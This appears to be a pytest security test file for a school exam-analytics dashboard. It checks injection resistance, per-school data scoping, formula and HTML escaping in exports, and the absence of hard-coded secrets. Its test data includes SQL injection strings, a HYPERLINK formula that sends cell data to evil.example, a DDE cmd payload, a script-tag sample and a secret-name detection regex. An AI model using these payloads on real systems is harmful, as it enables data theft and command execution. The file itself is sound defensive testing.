"""Security checks (issue 7, point 6): injection is inert, scope cannot be escaped, no secrets
in the code.

1. Every public method of :class:`dashboards.service.Service` that takes a
   :class:`~dashboards.service.Filters` (found by introspection, so a new method is covered
   automatically) is called with every filter field, and every other string argument, set to
   hostile strings (SQL injection, NUL, 10,000 characters, unicode quotes, huge integers) and
   to another school, as a principal and as an officer: only the project's refusals/errors
   (:class:`AccessDenied`, :class:`NotAvailable`, :class:`analytics.errors.EqmError`), no
   password hash in any output, no other school's rows for the principal, and the warehouse's
   content fingerprint (``tests/fingerprint.py``) unchanged.
2. The same over HTTP: every callback of ``app.callback_map`` (the page router included) is
   POSTed to ``/_dash-update-component`` by a signed-in user with every input and state set to
   hostile values, and, for the principal, to another school's id, name and classes: 200/204/4xx,
   no traceback, no password hash, no other school's school or student names or student ids,
   no callback crash logged (a malformed id is answered with a plain message by
   :func:`dashboards.components.browser_id`), warehouse unchanged.
   Login fields and page URLs are tried too.
3. Import fields (exam, subject, survey and district names, file names, header cells, data
   cells, mapping files, sheet names) carrying hostile strings are stored verbatim or refused
   with :class:`~analytics.errors.InputError`; every table survives with its content.
4. Secrets: no string literal in ``analytics/``, ``dashboards/``, ``eqm/`` looks like a secret;
   the Flask secret comes from ``EQM_SECRET_KEY`` or the git-ignored key file, written 0600.
"""

from __future__ import annotations

import ast
import collections
import contextlib
import csv
import inspect
import json
import logging
import math
import os
import re
import secrets
import shutil
import stat
import subprocess
import typing
from collections.abc import Callable, Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pandas as pd
import pytest

from analytics.errors import EqmError, InputError
from analytics.importers import (
    import_paper,
    import_roster,
    import_scores,
    import_survey,
    import_totals,
)
from analytics.users import add_user
from analytics.warehouse import Warehouse
from dashboards import ids
from dashboards.service import AccessDenied, Filters, NotAvailable, Service
from tests.builders import build_exam
from tests.dash_client import PASSWORD, csrf, login, started_app
from tests.fingerprint import fingerprint

ROOT = Path(__file__).resolve().parents[1]
OWN_SCHOOL = 1      # the principal p1's school
OTHER_SCHOOL = 2

HOSTILE: tuple[str, ...] = (
    "x'; DROP TABLE students; --",
    "' OR '1'='1",
    "1 UNION SELECT password_hash FROM users",
    "1); DELETE FROM users; --",
    'q"; DROP TABLE users; --',
    "a\x00b",
    "x" * 10_000,
    "\u2018 OR \u20181\u2019=\u20191",            # unicode quotes
    "\uff07 OR \uff071\uff07=\uff071",            # full-width apostrophes (NFKC → ')
    "$path",                                       # a DuckDB parameter name
)
HOSTILE_INTS: tuple[int, ...] = (-1, 2**63, 10**30)
# Errors that are an answer, not a crash: refusals and the project's user-facing errors.
CLEAR_ERRORS = (AccessDenied, NotAvailable, EqmError)


# ==============================================================================================
# Fixtures
# ==============================================================================================
@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two exams of one cohort in 6 schools (as in test_dash_access), distinctive student names,
    one user of each role and one archived paper (so the committee's callbacks reach SQL)."""
    from analytics.archive import archive_paper

    path = tmp_path_factory.mktemp("security") / "w.duckdb"
    wh = Warehouse(path)
    first = build_exam(wh, n_schools=6, students_per_school=25, exam="入口考试",
                       exam_date="2025-09-01", seed=1)
    build_exam(wh, n_schools=6, students_per_school=25, exam="期末监测", exam_date="2026-06-20",
               seed=2, theta=first["students"].set_index("student_key")["theta"])
    # Names that cannot be a substring of one another or of anything else in a response.
    wh.execute("UPDATE students SET name = '〔生' || lpad(student_key::VARCHAR, 5, '0') || '〕'")
    add_user(wh, "officer", PASSWORD, "officer")
    add_user(wh, "p1", PASSWORD, "principal", school=OWN_SCHOOL)
    add_user(wh, "cm", PASSWORD, "committee")
    add_user(wh, "admin", PASSWORD, "admin")
    archive_paper(wh, exam="期末监测", subject="数学")
    wh.close()
    return path


@pytest.fixture(scope="module")
def app(db: Path) -> Iterator[Any]:
    yield from started_app(db, secret_key="s" * 64)


@pytest.fixture(scope="module")
def svc(app: Any) -> Service:
    return app.server.config["EQM_SERVICE"]


@pytest.fixture(scope="module")
def forbidden(svc: Service) -> dict[str, set[str]]:
    """Strings the principal p1 must never receive: other schools' names, their students' ids
    and names; and strings nobody may receive: password hashes."""
    with svc._lock:
        others = svc.wh.df(
            "SELECT s.student_id, s.name AS student_name, c.name AS school_name "
            "FROM students s JOIN schools c USING (school_id) WHERE s.school_id <> $own",
            {"own": OWN_SCHOOL})
        hashes = svc.wh.df("SELECT password_hash FROM users")["password_hash"]
    assert len(others) > 0 and len(hashes) == 4
    return {"other_schools": set(others["school_name"]),
            "other_students": set(others["student_id"]) | set(others["student_name"]),
            "hashes": set(hashes) | {h.split("$")[-1] for h in hashes if "$" in h}}


def warehouse_state(svc: Service) -> dict[str, tuple[int, str]]:
    with svc._lock:
        return fingerprint(svc.wh)


# ==============================================================================================
# 1. Every Filters-taking service method, hostile filters
# ==============================================================================================
# Arguments other than ``self``/``user``/``f`` that a method *requires*: the values to try.
REQUIRED_ARGS: dict[str, tuple[Any, ...]] = {
    "kind": ("struggling", "borderline"),   # Service.students
    "text": ("",),                          # Service.archive_search (hostile values added below)
    "item_number": (1,),                    # Service.item_curve
}
# Methods taking a Filters that are deliberately not called here, with the reason.
SKIP: dict[str, str] = {}


def filter_methods() -> dict[str, inspect.Signature]:
    """Public Service methods with a parameter annotated ``Filters``."""
    out = {}
    for name, fn in inspect.getmembers(Service, inspect.isfunction):
        if name.startswith("_"):
            continue
        if any(hint is Filters for hint in typing.get_type_hints(fn).values()):
            out[name] = inspect.signature(fn)
    return out


def filter_cases() -> list[Filters]:
    """Hostile filter states: through ``from_mapping`` (the callbacks' path) with every key
    hostile (directly for text too long for ``from_mapping``, which drops it), hostile text
    beside a real exam or subject (the SQL strings, NUL and unicode quotes), and hostile
    integers in the integer fields."""
    text_fields = [f.name for f in fields(Filters) if f.type in ("str | None", str)]
    int_fields = [f.name for f in fields(Filters) if f.name not in text_fields]
    assert {"exam", "subject"} <= set(text_fields) and {"school", "class_id"} <= set(int_fields)
    cases = []
    for h in HOSTILE:
        text: dict[str, Any] = {k: h for k in text_fields}
        cases.append(Filters.from_mapping({k: h for k in (*ids.FILTER_KEYS, "class_id")})
                     if len(h) < 200 else Filters(**text))
    for h in (*HOSTILE[:4], HOSTILE[5], HOSTILE[7]):  # the SQL ones, NUL, unicode quotes
        cases.append(Filters(exam="期末监测", subject=h))
        cases.append(Filters(exam=h, subject="数学"))
    for n in HOSTILE_INTS:
        cases.append(Filters(exam="期末监测", subject="数学", **{k: n for k in int_fields}))
    return cases


def _as_text(result: Any) -> str:
    if isinstance(result, pd.DataFrame):
        return result.to_csv(index=False)
    if isinstance(result, dict):
        return "\n".join(_as_text(v) for v in result.values())
    return repr(result)


def _call_variants(sig: inspect.Signature
                   ) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Keyword arguments besides ``user``/``f``: the plain ones (each required argument from
    REQUIRED_ARGS) and the hostile ones (every string argument, required or optional, also
    set to each hostile string)."""
    params = [p for n, p in sig.parameters.items() if n not in ("self", "user", "f")]
    base: list[dict[str, Any]] = [{}]
    for p in params:
        if p.default is inspect.Parameter.empty:
            base = [{**b, p.name: v} for b in base for v in REQUIRED_ARGS[p.name]]
    text_params = [p.name for p in params if "str" in str(p.annotation)]
    hostile = [{**b, **{name: h for name in text_params}} for h in HOSTILE for b in base]
    return base, hostile if text_params else []


def test_every_filter_method_is_known() -> None:
    """Introspection finds the service's filter methods, and each one's required arguments
    have values to try: a new method with a new required argument fails here until it is
    added to REQUIRED_ARGS (or SKIP, with a reason)."""
    methods = filter_methods()
    assert {"score_report", "students", "archive_search", "value_added", "hotspots",
            "school_profile", "green", "trends"} <= set(methods)
    for name, sig in methods.items():
        if name in SKIP:
            continue
        for pname, p in sig.parameters.items():
            if pname in ("self", "f") or p.default is not inspect.Parameter.empty:
                continue
            assert pname == "user" or pname in REQUIRED_ARGS, (
                f"Service.{name} requires {pname!r}: add values to REQUIRED_ARGS or a reason "
                "to SKIP")


@pytest.mark.parametrize("method", sorted(set(filter_methods()) - set(SKIP)))
def test_service_method_with_hostile_filters(svc: Service, forbidden: dict[str, set[str]],
                                             method: str) -> None:
    sig = filter_methods()[method]
    takes_user = "user" in sig.parameters
    fn: Callable[..., Any] = getattr(svc, method)
    # The principal exercises the scope; the officer reaches every method's queries (officers
    # may open the committee's pages too), so a committee member adds no code path here.
    users = [svc.get_user(u) for u in ("p1", "officer")] if takes_user else [None]
    before = warehouse_state(svc)
    plain, hostile = _call_variants(sig)
    # Another school, its class or zone, asked for in every way a payload can: refused or
    # pinned to the principal's own school, never that school's rows.
    values = _other_school_values(svc)
    other = [Filters.from_mapping({key: v}) for v in values for key in ("school", "class")]
    other += [Filters(school=OTHER_SCHOOL), Filters(class_id=values[3]),
              Filters(zone=2, school=3)]
    filters = list(dict.fromkeys([*filter_cases(), *other]))  # distinct filter states
    cases = [(kw, f) for kw in plain for f in filters]
    cases += [(kw, Filters()) for kw in hostile]
    answered = 0
    for user in users:
        for kwargs, f in cases:
            args = (user, f) if takes_user else (f,)
            try:
                result = fn(*args, **kwargs)
            except CLEAR_ERRORS:
                continue
            except Exception as exc:  # the point: report which input crashed
                pytest.fail(f"Service.{method}({getattr(user, 'username', '')}, {f!r:.200},"
                            f" {kwargs!r:.200}) raised {type(exc).__name__}: {exc}"[:800])
            answered += 1
            text = _as_text(result)
            assert not any(h in text for h in forbidden["hashes"]), (method, f)
            if user is not None and user.role == "principal":
                leaked = {s for s in forbidden["other_schools"] | forbidden["other_students"]
                          if s in text}
                assert not leaked, (method, f, kwargs, sorted(leaked)[:5])
                if isinstance(result, pd.DataFrame) and "school_id" in result.columns:
                    assert set(result["school_id"].dropna()) <= {OWN_SCHOOL}, (method, f)
    assert answered > 0, f"every call of Service.{method} was refused: nothing was tested"
    assert warehouse_state(svc) == before


# ==============================================================================================
# 2. Every Dash callback over HTTP
# ==============================================================================================
def _outputs(out: str) -> Any:
    parts = out.strip(".").split("...") if out.startswith("..") else [out]
    outs = [{"id": o.rsplit(".", 1)[0], "property": o.rsplit(".", 1)[1]} for o in parts]
    return outs if len(outs) > 1 else outs[0]


def _deps(dep: list[dict[str, Any]], value: Callable[[str, str], Any]) -> list[Any]:
    """Inputs or states as Dash's renderer sends them; pattern-matching ids (ALL) are expanded
    to the filter bar's dropdowns."""
    out: list[Any] = []
    for d in dep:
        if d["id"].startswith("{"):
            pattern = json.loads(d["id"])
            if pattern.get("type") in (ids.EXPORT_TYPE, ids.TABLE_TYPE, ids.DRILL_TYPE):
                # issue 16: every table's 导出 Excel button and rows, the charts' drill-down
                c = {"type": pattern["type"], "index": "hostile"}
                out.append([{"id": c, "property": d["property"],
                             "value": c if d["property"] == "id"
                             else value(json.dumps(c), d["property"])}])
                continue
            assert pattern.get("type") == ids.FILTER_TYPE, f"unknown pattern id {d['id']}"
            concrete = [ids.filter_id(k) for k in ids.FILTER_KEYS]
            out.append([{"id": c, "property": d["property"],
                         "value": c if d["property"] == "id" else value(c["key"], "value")}
                        for c in concrete])
        else:
            out.append({"id": d["id"], "property": d["property"],
                        "value": value(d["id"], d["property"])})
    return out


def callback_bodies(dep: dict[str, Any], values: list[Any],
                    router_values: list[Any]) -> Iterator[dict[str, Any]]:
    """Request bodies for one callback: for each value, every input and state set to it (the
    filter store to a mapping with every filter key set to it; buttons clicked). The page
    router gets every registered page path with each of ``router_values`` in the query."""
    inputs = [d["id"] + "." + d["property"] for d in dep["inputs"]]
    is_router = "_pages_location.pathname" in inputs
    for v in router_values if is_router else values:
        def value(cid: str, prop: str, v: Any = v) -> Any:
            if cid == ids.FILTERS:
                return {k: v for k in (*ids.FILTER_KEYS, "class_id")}
            if prop == "n_clicks":
                return 1
            return v

        body = {"output": dep["output"], "outputs": _outputs(dep["output"]),
                "inputs": _deps(dep["inputs"], value), "state": _deps(dep["state"], value),
                "changedPropIds": inputs}
        if is_router:
            import dash

            for page in dash.page_registry.values():
                query = "?" + urlencode({k: str(v) for k in (*ids.FILTER_KEYS, "class_id")})
                for item in body["inputs"]:
                    item["value"] = page["path"] if item["property"] == "pathname" else query
                yield json.loads(json.dumps(body))
        else:
            yield body


def check_response(resp: Any, forbidden: dict[str, set[str]], principal: bool) -> str | None:
    """What is wrong with a callback response, or None."""
    if resp.status_code not in (200, 204) and not 300 <= resp.status_code < 500:
        return f"status {resp.status_code}"
    text = resp.get_data(as_text=True)
    with contextlib.suppress(ValueError):  # JSON escapes non-ASCII: compare decoded text
        text = json.dumps(json.loads(text), ensure_ascii=False) if text else text
    if "Traceback" in text or 'File "' in text:
        return "traceback in the body"
    if any(h in text for h in forbidden["hashes"]):
        return "password hash in the body"
    if principal:
        leaked = {s for s in forbidden["other_schools"] | forbidden["other_students"]
                  if s in text}
        if leaked:
            return f"other school's data: {sorted(leaked)[:3]}"
    return None


def _other_school_values(svc: Service) -> list[Any]:
    with svc._lock:
        name = svc.wh.scalar("SELECT name FROM schools WHERE school_id = $s",
                             {"s": OTHER_SCHOOL})
        class_id = int(svc.wh.scalar("SELECT min(class_id) FROM classes WHERE school_id = $s",
                                     {"s": OTHER_SCHOOL}))
    return [OTHER_SCHOOL, str(OTHER_SCHOOL), name, class_id, [OTHER_SCHOOL],
            {"$ne": OWN_SCHOOL}]


@pytest.mark.parametrize("user", ["p1", "officer", "cm", "admin"])
def test_every_callback_with_hostile_inputs(app: Any, svc: Service,
                                            forbidden: dict[str, set[str]],
                                            caplog: pytest.LogCaptureFixture, user: str) -> None:
    client = login(app, user)
    headers = {"X-CSRFToken": csrf(client)}
    deps = {d["output"]: d for d in client.get("/_dash-dependencies").get_json()}
    assert set(app.callback_map) <= set(deps) and len(deps) >= 20
    # Clientside callbacks (Dash's page-title updater) run in the browser: the server has no
    # function for them (a POST naming one is answered 500 by Dash itself), so none is sent.
    deps = {k: d for k, d in deps.items() if not d.get("clientside_function")}
    assert len(deps) >= 20
    # The service test above tries every hostile string; here the SQL ones, NUL, unicode
    # quotes, a long string and a huge integer.
    values: list[Any] = [*HOSTILE[:6], HOSTILE[7], HOSTILE[6][:5000], HOSTILE_INTS[-1]]
    router_values = values[:3]
    if user == "p1":
        values += _other_school_values(svc)
        router_values += _other_school_values(svc)[:3]
    before = warehouse_state(svc)
    problems = []
    posts = 0
    with caplog.at_level(logging.ERROR):
        for output in sorted(deps):
            for body in callback_bodies(deps[output], values, router_values):
                posts += 1
                resp = client.post("/_dash-update-component", json=body, headers=headers)
                wrong = check_response(resp, forbidden, principal=user == "p1")
                if wrong:
                    problems.append((output, body["inputs"], wrong))
    crashes = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert not problems, problems[:3]
    # every malformed value is answered with a message, never a crash in a callback
    unexpected = [f"{r.getMessage()}: {r.exc_info[1]!r}" if r.exc_info else r.getMessage()
                  for r in crashes]
    assert not unexpected, unexpected[:5]
    assert posts >= len(deps) * len(values)
    assert warehouse_state(svc) == before


def test_pages_and_layout_for_another_school(app: Any, forbidden: dict[str, set[str]]) -> None:
    """GET of every page URL with another school (and hostile text) in the query string, the
    layout and the dependency list: nothing of another school, never a traceback."""
    import dash

    client = login(app, "p1")
    queries: list[dict[str, Any]] = [{"school": OTHER_SCHOOL}, {"class": 3, "zone": 2},
                                     {"school": HOSTILE[0]},
                                     {"exam": HOSTILE[2], "subject": HOSTILE[1]}]
    for page in dash.page_registry.values():
        for q in queries:
            resp = client.get(page["path"] + "?" + urlencode(q))
            assert check_response(resp, forbidden, principal=True) is None, (page["path"], q)
    for path in ("/_dash-layout", "/_dash-dependencies", "/lang/" + HOSTILE[0]):
        resp = client.get(path)
        assert check_response(resp, forbidden, principal=True) is None, path


def test_login_fields_are_inert(app: Any, svc: Service) -> None:
    """Hostile user names and passwords never sign in and change nothing."""
    before = warehouse_state(svc)
    attempts = [(u, pw) for u in (HOSTILE[0], HOSTILE[1], HOSTILE[5], HOSTILE[6], "p1' --",
                                  "officer")
                for pw in ("' OR '1'='1", "x') OR 1=1 --")]
    # Each attempt from its own client address, so that every value reaches the password check
    # (the per-client back-off would answer 429 from the sixth; 2 failures for "officer" stay
    # under the per-name allowance). The back-off itself: test_failed_logins_* below.
    for i, (username, password) in enumerate(attempts):
        client = app.server.test_client()
        client.environ_base["REMOTE_ADDR"] = f"192.0.2.{i + 1}"
        page = client.get("/login").get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
        resp = client.post("/login", data={"csrf_token": token, "username": username,
                                           "password": password})
        assert resp.status_code == 401, (username, password)
        assert "Traceback" not in resp.get_data(as_text=True)
        assert client.get("/_dash-layout").status_code == 401
    assert warehouse_state(svc) == before


# ==============================================================================================
# 3. Import fields
# ==============================================================================================
SPEC = [["题号", "题型", "分值", "答案", "知识点", "认知层次"],
        ["1", "单选", "2", "A", "数", "了解"], ["2", "解答", "6", "", "式", "运用"]]
SCORES_HEADER = ["考号", "姓名", "学校", "班级", "1", "2"]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture(scope="module")
def loaded_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse with a paper, two students' scores and a user (so there is something to
    drop or leak), built once and copied for each test."""
    folder = tmp_path_factory.mktemp("imports")
    path = folder / "loaded.duckdb"
    with Warehouse(path) as wh:
        import_paper(wh, write_csv(folder / "spec0.csv", SPEC), exam="E0", subject="数学",
                     grade=9)
        import_scores(wh, write_csv(folder / "scores0.csv", [
            SCORES_HEADER, ["S1", "甲", "一中", "1班", "A", "5"],
            ["S2", "乙", "一中", "1班", "B", "2"]]), exam="E0", subject="数学")
        add_user(wh, "admin", PASSWORD, "admin")
    return path


@pytest.fixture
def loaded(loaded_file: Path, tmp_path: Path) -> Iterator[Warehouse]:
    copy = tmp_path / "w.duckdb"
    shutil.copyfile(loaded_file, copy)
    with Warehouse(copy) as wh:
        yield wh


def _import_outcome(wh: Warehouse, run: Callable[[], Any]) -> str:
    """``ok`` or ``refused``; any other exception fails the test. A refused import leaves the
    warehouse exactly as it was."""
    before = fingerprint(wh)
    try:
        run()
    except InputError:
        assert fingerprint(wh) == before
        return "refused"
    return "ok"


def _assert_intact(wh: Warehouse, tables: list[str]) -> None:
    assert wh.tables() == tables
    assert wh.scalar("SELECT count(*) FROM users") == 1
    assert wh.scalar("SELECT count(*) FROM students WHERE student_id IN ('S1', 'S2')") == 2


@pytest.mark.parametrize("h", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_names_given_to_importers_are_stored_verbatim(loaded: Warehouse, tmp_path: Path,
                                                               h: str) -> None:
    """Exam, subject, survey and district names are parameters: stored exactly as given."""
    wh, tables = loaded, loaded.tables()
    spec = write_csv(tmp_path / "spec.csv", SPEC)
    assert _import_outcome(wh, lambda: import_paper(wh, spec, exam=h, subject=h, grade=9)) == "ok"
    assert wh.scalar("SELECT count(*) FROM exams WHERE name = $h", {"h": h}) == 1
    assert wh.scalar("SELECT count(*) FROM papers WHERE subject = $h", {"h": h}) == 1
    scores = write_csv(tmp_path / "scores.csv",
                       [SCORES_HEADER, ["S1", "甲", "一中", "1班", "B", "4"]])
    assert _import_outcome(wh, lambda: import_scores(wh, scores, exam=h, subject=h)) == "ok"
    totals = write_csv(tmp_path / "t.csv", [["考号", "学校", "总分"], ["S1", "一中", "50"]])
    assert _import_outcome(wh, lambda: import_totals(wh, totals, exam=h, subject=h + "2",
                                                      grade=9, full_score=100)) == "ok"
    survey = write_csv(tmp_path / "q.csv", [["考号", "Q1"], ["S1", "1"]])
    assert _import_outcome(wh, lambda: import_survey(wh, survey, survey=h)) == "ok"
    assert wh.scalar("SELECT count(*) FROM surveys WHERE name = $h", {"h": h}) == 1
    roster = write_csv(tmp_path / "r.csv", [["考号", "学校"], ["S9", "三中"]])
    assert _import_outcome(wh, lambda: import_roster(wh, roster, district=h)) == "ok"
    assert wh.scalar("SELECT count(*) FROM districts WHERE name = $h", {"h": h}) == 1
    _assert_intact(wh, tables)


@pytest.mark.parametrize("h", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_cells_are_data_or_refused(loaded: Warehouse, tmp_path: Path, h: str) -> None:
    """Header and data cells: stored verbatim (after the documented normalisation: NFKC, runs
    of white space collapsed, trimmed) where they are stored, or refused with InputError.
    A cell holding ';' may change the detected delimiter: then the header is not found
    (refused), never half-read."""
    from analytics.importers.common import norm_text

    wh, tables = loaded, loaded.tables()
    stored = norm_text(h)
    # Specification table: cognitive level is kept as written.
    spec = write_csv(tmp_path / "spec.csv", [SPEC[0], ["1", "单选", "2", "A", h, h], SPEC[2]])
    if _import_outcome(wh, lambda: import_paper(wh, spec, exam="E1", subject="数学",
                                                grade=9)) == "ok":
        assert wh.scalar("SELECT count(*) FROM items WHERE cognitive_level = $h",
                         {"h": stored}) == 1
        kps = set(wh.df("SELECT knowledge_point FROM item_knowledge")["knowledge_point"])
        assert all(k in stored for k in kps - {"数", "式"})  # split on its separators only
    # Roster: student, school, class and zone names.
    roster = write_csv(tmp_path / "roster.csv", [
        ["学号", "姓名", "性别", "年级", "学校", "班级", "片区"], ["R1", h, "男", "9", h, h, h]])
    if _import_outcome(wh, lambda: import_roster(wh, roster)) == "ok":
        got = wh.df("SELECT student_name, school_name, class_name, zone_name FROM student_tree "
                    "WHERE student_id = 'R1'")
        assert got.values.tolist() == [[stored] * 4]
    # Marking export: a hostile name, school and class, and a hostile extra header.
    scores = write_csv(tmp_path / "scores.csv", [
        [*SCORES_HEADER, h], ["R2", h, h + "校", "1班", "A", "5", h]])
    if _import_outcome(wh, lambda: import_scores(wh, scores, exam="E0", subject="数学")) == "ok":
        assert wh.scalar("SELECT student_name FROM student_tree WHERE student_id = 'R2'") == \
            stored
    # Questionnaire: the header (question) and the answer are stored as text.
    survey = write_csv(tmp_path / "q.csv", [["考号", h], ["S1", h]])
    if _import_outcome(wh, lambda: import_survey(wh, survey, survey="Q")) == "ok":
        got = wh.df("SELECT question, value_text FROM survey_answers")
        assert got.values.tolist() == [[stored, stored]]
    # Totals: a hostile total is not a number → refused.
    totals = write_csv(tmp_path / "t.csv", [["考号", "学校", "总分"], ["S1", "一中", h]])
    assert _import_outcome(wh, lambda: import_totals(wh, totals, exam="T", subject="数学",
                                                     grade=9, full_score=100)) == "refused"
    _assert_intact(wh, tables)


def test_hostile_file_names_mapping_and_sheet(loaded: Warehouse, tmp_path: Path) -> None:
    """File names are logged verbatim; mapping files and sheet names naming hostile things
    are refused with InputError."""
    import openpyxl

    wh, tables = loaded, loaded.tables()
    for i, name in enumerate(["x'; DROP TABLE students; --.csv", "' OR '1'='1.csv",
                              "\u2018q\u2019 $path.csv", 'q"; DROP TABLE users; --.csv']):
        folder = tmp_path / f"f{i}"
        folder.mkdir()
        spec = write_csv(folder / name, SPEC)
        import_paper(wh, spec, exam=f"F{i}", subject="数学", grade=9)
        assert wh.scalar("SELECT count(*) FROM import_log WHERE file_name = $n",
                         {"n": name}) == 1
    spec = write_csv(tmp_path / "spec.csv", SPEC)
    mapping = tmp_path / "m.toml"
    mapping.write_text('[columns]\n"题号" = "item; DROP TABLE items; --"\n', encoding="utf-8")
    with pytest.raises(InputError, match="mapping"):
        import_paper(wh, spec, exam="M", subject="数学", grade=9, mapping=mapping)
    mapping.write_text("[columns]\n\"x'; DROP TABLE items; --\" = \"ignore\"\n", encoding="utf-8")
    import_paper(wh, spec, exam="M", subject="数学", grade=9, mapping=mapping)
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "x'; DROP"
    for row in SPEC:
        sheet.append(row)
    book.save(tmp_path / "spec.xlsx")
    with pytest.raises(InputError, match="sheet"):
        import_paper(wh, tmp_path / "spec.xlsx", exam="X", subject="数学", grade=9,
                     sheet="'; DROP TABLE items; --")
    import_paper(wh, tmp_path / "spec.xlsx", exam="X", subject="数学", grade=9, sheet="x'; DROP")
    _assert_intact(wh, tables)
    assert wh.scalar("SELECT count(*) FROM items") == 2 * (1 + 4 + 2)  # E0, F0-3, M, X


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+2",
            "-2+3", "@SUM(A1:A9)")


def test_imported_text_is_text_in_the_principals_exports() -> None:
    """Names come from imported files (school, class, knowledge point …): in the Excel export
    a name starting with = + - @ stays text, never a live formula (formula injection), and in
    the HTML report markup is escaped."""
    import io

    import openpyxl

    from dashboards.report import school_report_html, workbook

    frame = pd.DataFrame({"class_name": [*FORMULAS, "<script>alert(1)</script>"],
                          "n": range(len(FORMULAS) + 1)})
    book = openpyxl.load_workbook(io.BytesIO(workbook({"班级": frame}, "zh")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert {*FORMULAS, "<script>alert(1)</script>"} <= {c.value for c in cells}
    page = school_report_html("报告", {"班级": frame}, "zh")
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def test_imported_text_is_text_in_cli_and_archive_exports(tmp_path: Path) -> None:
    """The same for `eqm … --format xlsx` (eqm.output.emit) and the question archive's
    workbook (item stems come from the committee's files)."""
    import json

    import openpyxl

    from analytics.archive import archive_paper, export_paper_archive
    from eqm.output import emit
    from tests.builders import build_exam

    def formulas(path: Path) -> list[object]:
        book = openpyxl.load_workbook(path)
        return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]

    out = tmp_path / "cli.xlsx"
    emit(pd.DataFrame({"school_name": list(FORMULAS), "n": [10] * len(FORMULAS)}), "xlsx", out)
    assert formulas(out) == []
    assert set(FORMULAS) <= set(pd.read_excel(out)["school_name"])

    with Warehouse(tmp_path / "a.duckdb") as wh:
        build_exam(wh, n_schools=2, students_per_school=20, exam="期末", seed=3)
        labels = list(wh.df("SELECT label FROM items ORDER BY number")["label"])
        stems = [FORMULAS[i % len(FORMULAS)] for i in range(len(labels))]
        content = pd.DataFrame({"item_label": labels, "stem_text": stems,
                                "option_texts": [json.dumps({"A": "=1+1"})] * len(labels),
                                "solution_notes": ["@SUM(A1:A2)"] * len(labels)})
        archive_paper(wh, exam="期末", subject="数学", content=content)
        book = export_paper_archive(wh, exam="期末", subject="数学", out=tmp_path / "arch.xlsx")
    assert formulas(book) == []


def test_imported_text_is_text_in_cli_csv_exports(tmp_path: Path) -> None:
    """`eqm … --format csv`: a CSV cell has no type, so a name starting with = + - @ (or a tab)
    is written with a leading apostrophe, which spreadsheets show as text; numbers, including
    negative ones, and harmless names are written unchanged."""
    import csv

    from eqm.output import emit

    names = [*FORMULAS, "\t=1+1", "一中", "a=b", "'quoted"]
    frame = pd.DataFrame({"school_name": names, "n": [10] * len(names),
                          "gap": [-0.25] * len(names)})
    out = tmp_path / "cli.csv"
    emit(frame, "csv", out, raw=True)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    got = [r["school_name"] for r in rows]
    assert got == [*("'" + f for f in FORMULAS), "'\t=1+1", "一中", "a=b", "'quoted"]
    assert not [g for g in got if g[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {r["gap"] for r in rows} == {"-0.25"} and {r["n"] for r in rows} == {"10"}
    # the frame the caller passed is not changed
    assert list(frame["school_name"]) == names


# ==============================================================================================
# 4. Secrets
# ==============================================================================================
SECRET_NAME = re.compile(r"(?i)(secret|passw|pwd|token|api_?key|private_?key|credential)")
TOKEN_CHARS = re.compile(r"^[A-Za-z0-9+/=_\-.:$]+$")


def _entropy(text: str) -> float:
    counts = collections.Counter(text)
    return -sum(c / len(text) * math.log2(c / len(text)) for c in counts.values())


def looks_like_secret(text: str) -> bool:
    """A literal of ≥ 24 characters in the alphabet of keys and tokens (hex, base64, url-safe)
    that is not made of words: some separator-free run of ≥ 16 characters mixing letters and
    digits, with ≥ 3.5 bits of entropy per character over the whole literal."""
    if len(text) < 24 or not TOKEN_CHARS.match(text) or _entropy(text) < 3.5:
        return False
    runs = re.split(r"[_\-.:$]", text)
    return any(len(r) >= 16 and re.search(r"\d", r) and re.search(r"[A-Za-z]", r)
               for r in runs)


def _name(node: ast.AST | None) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return node.attr
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.Subscript):
        return _name(node.slice)
    return None


def secret_findings(source: str, where: str) -> list[str]:
    """High-entropy literals, and non-empty string literals bound to a secret-like name
    (assignment, keyword argument, dict entry, default argument, comparison)."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Constant) and isinstance(node.value, str) \
                and looks_like_secret(node.value):
            found.append(f"{where}:{node.lineno}: high-entropy literal {node.value[:12]}…")
        pairs: list[tuple[str | None, ast.AST]] = []
        if isinstance(node, ast.Assign):
            pairs = [(_name(t), node.value) for t in node.targets]
        elif isinstance(node, ast.AnnAssign) and node.value is not None:
            pairs = [(_name(node.target), node.value)]
        elif isinstance(node, ast.keyword):
            pairs = [(node.arg, node.value)]
        elif isinstance(node, ast.Dict):
            pairs = [(_name(k), v) for k, v in zip(node.keys, node.values, strict=True) if k]
        elif isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            a = node.args
            pos = [*a.posonlyargs, *a.args]
            pairs = [(p.arg, d) for p, d in zip(pos[len(pos) - len(a.defaults):], a.defaults,
                                                strict=True)]
            pairs += [(p.arg, d) for p, d in zip(a.kwonlyargs, a.kw_defaults, strict=True)
                      if d is not None]
        elif isinstance(node, ast.Compare) and len(node.comparators) == 1:
            pairs = [(_name(node.left), node.comparators[0])]
        for name, value in pairs:
            if name and SECRET_NAME.search(name) and isinstance(value, ast.Constant) \
